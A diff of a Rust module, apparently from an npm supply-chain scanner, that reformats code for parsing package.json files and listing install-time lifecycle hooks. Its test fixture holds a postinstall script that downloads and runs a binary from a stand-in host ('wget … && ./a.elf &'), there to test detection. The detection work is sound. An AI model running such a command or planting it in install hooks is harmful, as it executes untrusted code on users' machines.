@@ -5,8 +5,15 @@
 use std::collections::BTreeMap;
 
 /// Lifecycle scripts that npm runs on `npm install` of the package (as a dependency or locally).
-pub(crate) const INSTALL_HOOKS: &[&str] =
-    &["preinstall", "install", "postinstall", "prepare", "preprepare", "postprepare", "prepublish"];
+pub(crate) const INSTALL_HOOKS: &[&str] = &[
+    "preinstall",
+    "install",
+    "postinstall",
+    "prepare",
+    "preprepare",
+    "postprepare",
+    "prepublish",
+];
 
 /// The parts of `package.json` the rules use.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
@@ -37,7 +44,13 @@ impl Manifest {
     }
 
     fn from_value(value: &serde_json::Value, raw: String) -> Self {
-        let text = |key: &str| value.get(key).and_then(serde_json::Value::as_str).unwrap_or_default().to_owned();
+        let text = |key: &str| {
+            value
+                .get(key)
+                .and_then(serde_json::Value::as_str)
+                .unwrap_or_default()
+                .to_owned()
+        };
         let mut scripts = BTreeMap::new();
         if let Some(object) = value.get("scripts").and_then(serde_json::Value::as_object) {
             for (key, script) in object.iter().take(1000) {
@@ -47,7 +60,12 @@ impl Manifest {
             }
         }
         let mut dependencies = Vec::new();
-        for kind in ["dependencies", "optionalDependencies", "devDependencies", "peerDependencies"] {
+        for kind in [
+            "dependencies",
+            "optionalDependencies",
+            "devDependencies",
+            "peerDependencies",
+        ] {
             if let Some(object) = value.get(kind).and_then(serde_json::Value::as_object) {
                 for (name, spec) in object.iter().take(10_000) {
                     if let Some(spec) = spec.as_str() {
@@ -56,12 +74,22 @@ impl Manifest {
                 }
             }
         }
-        Self { name: text("name"), version: text("version"), scripts, dependencies, raw, well_formed: true }
+        Self {
+            name: text("name"),
+            version: text("version"),
+            scripts,
+            dependencies,
+            raw,
+            well_formed: true,
+        }
     }
 
     /// Tolerant scan for `"key": "value"` pairs of interest in broken JSON.
     fn recover(raw: String) -> Self {
-        let mut manifest = Self { raw: raw.clone(), ..Self::default() };
+        let mut manifest = Self {
+            raw: raw.clone(),
+            ..Self::default()
+        };
         let mut rest = raw.as_str();
         let mut guard = 0;
         while let Some(start) = rest.find('"') {
@@ -70,7 +98,9 @@ impl Manifest {
                 break;
             }
             let after = &rest[start + 1..];
-            let Some((key, after_key)) = read_json_string(after) else { break };
+            let Some((key, after_key)) = read_json_string(after) else {
+                break;
+            };
             let trimmed = after_key.trim_start();
             if let Some(value_part) = trimmed.strip_prefix(':') {
                 let value_part = value_part.trim_start();
@@ -85,7 +115,10 @@ impl Manifest {
                     match key.as_str() {
                         "name" if manifest.name.is_empty() => manifest.name = value,
                         "version" if manifest.version.is_empty() => manifest.version = value,
-                        hook if INSTALL_HOOKS.contains(&hook) || hook.starts_with("pre") || hook.starts_with("post") => {
+                        hook if INSTALL_HOOKS.contains(&hook)
+                            || hook.starts_with("pre")
+                            || hook.starts_with("post") =>
+                        {
                             manifest.scripts.insert(key.clone(), value);
                         }
                         _ => {}
@@ -101,9 +134,11 @@ impl Manifest {
 
     /// The install-time hooks present, in npm's run order.
     pub(crate) fn install_scripts(&self) -> impl Iterator<Item = (&str, &str)> {
-        INSTALL_HOOKS
-            .iter()
-            .filter_map(|hook| self.scripts.get(*hook).map(|script| (*hook, script.as_str())))
+        INSTALL_HOOKS.iter().filter_map(|hook| {
+            self.scripts
+                .get(*hook)
+                .map(|script| (*hook, script.as_str()))
+        })
     }
 }
 
@@ -136,12 +171,21 @@ mod tests {
     fn strict_and_broken_manifests() {
         let strict = Manifest::parse(br#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js"},"dependencies":{"b":"^1"}}"#);
         assert!(strict.well_formed);
-        assert_eq!(strict.install_scripts().collect::<Vec<_>>(), [("postinstall", "node x.js")]);
-        assert_eq!(strict.dependencies, [("dependencies".to_owned(), "b".to_owned(), "^1".to_owned())]);
+        assert_eq!(
+            strict.install_scripts().collect::<Vec<_>>(),
+            [("postinstall", "node x.js")]
+        );
+        assert_eq!(
+            strict.dependencies,
+            [("dependencies".to_owned(), "b".to_owned(), "^1".to_owned())]
+        );
         let broken = Manifest::parse(br#"{"name": "evil", "scripts": "test": "x", "postinstall": "wget http://h/a.elf && ./a.elf &""repo": {"#);
         assert!(!broken.well_formed);
         assert_eq!(broken.name, "evil");
-        assert_eq!(broken.scripts.get("postinstall").map(String::as_str), Some("wget http://h/a.elf && ./a.elf &"));
+        assert_eq!(
+            broken.scripts.get("postinstall").map(String::as_str),
+            Some("wget http://h/a.elf && ./a.elf &")
+        );
         assert_eq!(Manifest::parse(b"\xff\xfe").name, "");
     }
 }
